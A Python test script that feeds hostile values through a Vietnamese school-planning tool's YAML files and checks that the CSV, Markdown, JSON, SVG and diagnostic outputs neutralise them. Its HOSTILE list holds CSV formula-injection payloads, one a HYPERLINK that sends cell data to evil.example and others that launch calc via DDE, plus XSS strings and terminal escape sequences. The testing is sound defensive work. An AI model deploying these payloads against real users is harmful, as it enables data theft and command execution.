#!/usr/bin/env python3
"""Hostile values fed through the YAML come out inert in every output: CSV cells cannot start a
spreadsheet formula, Markdown cannot carry HTML, links or broken tables, and diagnostics cannot
send escape sequences to a terminal.

usage: check_hostile.py PAPI REPO_ROOT
"""
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile

failures = []
passed = 0

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    "[bấm](javascript:alert(1))",
    "cột | giữa\nxuống dòng",
    "\x1b[31mđỏ\x1b[0m\x1b]0;title\x07",
    "\u009b31mCSI\u009b0m\u0085NEL",  # C1 controls: CSI acts on terminals like ESC [
]


def check(condition, what):
    global passed
    if condition:
        passed += 1
    else:
        failures.append(what)
        print("FAIL:", what)


def yaml_string(text):
    """A YAML double-quoted scalar for any text (control characters as escapes)."""
    out = '"'
    for ch in text:
        if ch == '"':
            out += '\\"'
        elif ch == "\\":
            out += "\\\\"
        elif ch == "\n":
            out += "\\n"
        elif ch == "\t":
            out += "\\t"
        elif ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F:
            out += "\\x%02x" % ord(ch)
        else:
            out += ch
    return out + '"'


def make_plan(repo, folder):
    shutil.copytree(os.path.join(repo, "plans", "van-giang-2021"), folder)
    units_path = os.path.join(folder, "units.yaml")
    units = open(units_path, encoding="utf-8").read()
    schools = re.findall(r'name: ("Trường [^"]*")', units)
    for hostile, name in zip(HOSTILE, schools):
        units = units.replace(f"name: {name}", f"name: {yaml_string(hostile)}", 1)
    units = units.replace('commune: "Cửu Cao"', f"commune: {yaml_string(HOSTILE[0])}", 1)
    open(units_path, "w", encoding="utf-8").write(units)

    tasks_path = os.path.join(folder, "tasks.yaml")
    tasks = open(tasks_path, encoding="utf-8").read()
    titles = re.findall(r"title: (\"[^\n]*\")\n", tasks)
    for hostile, title in zip(HOSTILE, titles):
        tasks = tasks.replace(f"title: {title}\n", f"title: {yaml_string(hostile)}\n", 1)
    open(tasks_path, "w", encoding="utf-8").write(tasks)

    report_path = os.path.join(folder, "status", "2021-Q2", "pgd.yaml")
    report = open(report_path, encoding="utf-8").read()
    count = 0

    def evidence(match):
        nonlocal count
        count += 1
        return f"evidence: {yaml_string(HOSTILE[count % len(HOSTILE)])}\n"

    report = re.sub(r"evidence: [^\n]*\n", evidence, report)
    open(report_path, "w", encoding="utf-8").write(report)


def run(papi, *args, cwd):
    # papi's default language (Vietnamese), whatever the machine's locale.
    env = {k: v for k, v in os.environ.items()
           if k not in ("LANG", "LANGUAGE", "LC_ALL", "LC_MESSAGES", "PAPI_LANG")}
    env["NO_COLOR"] = "1"
    result = subprocess.run([papi, *args], cwd=cwd, capture_output=True, env=env)
    return result.returncode, result.stdout.decode("utf-8"), result.stderr.decode("utf-8")


def check_csv(text, label):
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    width = len(rows[0])
    for n, row in enumerate(rows, start=1):
        check(len(row) == width, f"{label}: row {n} keeps {width} columns")
        for cell in row:
            check(not cell or cell[0] not in "=+-@\t\r", f"{label}: row {n}: cell is a formula: {cell[:30]!r}")


def check_markdown(text, label):
    check("<script" not in text.lower(), f"{label}: no raw <script>")
    check("<img" not in text.lower(), f"{label}: no raw <img>")
    check(re.search(r"(?<!\\)\]\(javascript:", text) is None, f"{label}: no live javascript: link")
    check("\x1b" not in text and "\x07" not in text and "\r" not in text, f"{label}: no control characters")
    check(re.search("[\x80-\x9f]", text) is None, f"{label}: no C1 control characters")
    lines = text.split("\n")
    for i, line in enumerate(lines):
        if line.startswith("|") and i + 1 < len(lines) and set(lines[i + 1]) <= set("|-: "):
            width = len(re.split(r"(?<!\\)\|", line))
            j = i + 2
            while j < len(lines) and lines[j].startswith("|"):
                check(len(re.split(r"(?<!\\)\|", lines[j])) == width, f"{label}: table row {j + 1} keeps its cells")
                j += 1


def main():
    papi, repo = sys.argv[1], sys.argv[2]
    with tempfile.TemporaryDirectory() as tmp:
        plan = os.path.join(tmp, "hostile")
        make_plan(repo, plan)
        code, out, err = run(papi, "validate", plan, cwd=tmp)
        check(code == 0, f"the hostile plan is still valid data (exit {code}): {err[:300]}")

        for fmt in ("md", "csv"):
            code, out, err = run(papi, "plan", plan, "--format", fmt, cwd=tmp)
            check(code == 0, f"plan {fmt}: exit 0")
            (check_markdown if fmt == "md" else check_csv)(out, f"plan {fmt}")
        for lang in ("vi", "en"):
            code, out, _ = run(papi, "report", plan, "--lang", lang, cwd=tmp)
            check(code == 0, f"report md {lang}: exit 0")
            check_markdown(out, f"report md {lang}")
        for table in ("area", "unit", "level", "commune", "task", "record"):
            code, out, _ = run(papi, "report", plan, "--format", "csv", "--by", table, cwd=tmp)
            check(code == 0, f"report csv {table}: exit 0")
            check_csv(out, f"report csv {table}")
        code, out, _ = run(papi, "report", plan, "--format", "json", cwd=tmp)
        check(code == 0 and "\x1b" not in out, "report json: control characters escaped")
        names = [u["name"] for u in json.loads(out)["units"]]
        check(HOSTILE[10] in names and HOSTILE[11] in names,
              "report json: the values themselves are kept, escaped")
        svg = os.path.join(tmp, "r.md")
        run(papi, "report", plan, "-o", svg, cwd=tmp)
        chart = open(os.path.join(tmp, "r.svg"), encoding="utf-8").read()
        check("<script" not in chart, "svg: no raw <script>")

        # yaml-cpp decodes the escapes \N and \_ into lone bytes; papi keeps U+0085 and U+00A0.
        escapes = os.path.join(tmp, "escapes")
        shutil.copytree(plan, escapes)
        report_path = os.path.join(escapes, "status", "2021-Q2", "pgd.yaml")
        report = open(report_path, encoding="utf-8").read()
        # An anchor sends this file through the full loading path; the Q1 file below, with no
        # anchor, goes through the fast one.
        report = re.sub(r"evidence: [^\n]*\n", 'evidence: &n "dòng\\\\Nmới\\\\_x"\n', report, count=1)
        report = re.sub(r"evidence: \"[^\n]*\n", "evidence: *n\n", report, count=1)
        open(report_path, "w", encoding="utf-8").write(report)
        q1_path = os.path.join(escapes, "status", "2021-Q1", "pgd.yaml")
        q1 = open(q1_path, encoding="utf-8").read()
        q1 = re.sub(r"evidence: [^\n]*\n", 'evidence: "nhanh\\\\Nđường\\\\_y"\n', q1, count=1)
        open(q1_path, "w", encoding="utf-8").write(q1)
        code, out, err = run(papi, "validate", escapes, cwd=tmp)
        check(code == 0, f"\\N and \\_ escapes: validate exit 0 ({err[:200]})")
        code, out, err = run(papi, "report", escapes, "--format", "csv", "--by", "record", cwd=tmp)
        check(code == 0 and "dòng\u0085mới\u00a0x" in out, f"\\N and \\_ escapes: the record keeps U+0085 and U+00A0 ({err[:200]})")
        code, out, err = run(papi, "report", escapes, "--period", "2021-Q1", "--format", "csv", "--by", "record", cwd=tmp)
        check(code == 0 and "nhanh\u0085đường\u00a0y" in out, f"\\N and \\_ escapes, fast path: U+0085 and U+00A0 kept ({err[:200]})")
        code, out, err = run(papi, "report", escapes, "--format", "json", cwd=tmp)
        check(code == 0, f"\\N and \\_ escapes: report json exit 0 ({err[:200]})")
        code, out, err = run(papi, "report", escapes, cwd=tmp)
        check(code == 0, f"\\N and \\_ escapes: report md exit 0 ({err[:200]})")
        check_markdown(out, "report md with \\N")

        # Diagnostics that quote hostile text: an unknown field named with escape sequences.
        broken = os.path.join(tmp, "broken")
        shutil.copytree(plan, broken)
        report_path = os.path.join(broken, "status", "2021-Q1", "pgd.yaml")
        with open(report_path, "a", encoding="utf-8") as f:
            f.write('  - task: "1.1"\n    state: done\n    "\\e[2J\\e]0;pwned\\a": x\n')
        for fmt in ("text", "github", "json"):
            code, out, err = run(papi, "validate", broken, "--format", fmt, cwd=tmp)
            check(code == 1, f"validate {fmt}: exit 1")
            both = out + err
            check("\x1b" not in both and "\x07" not in both, f"validate {fmt}: no raw escape reaches the terminal")
            check("không có mục nào tên là" in both, f"validate {fmt}: the problem is still reported")
    print(f"{passed} passed, {len(failures)} failed")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
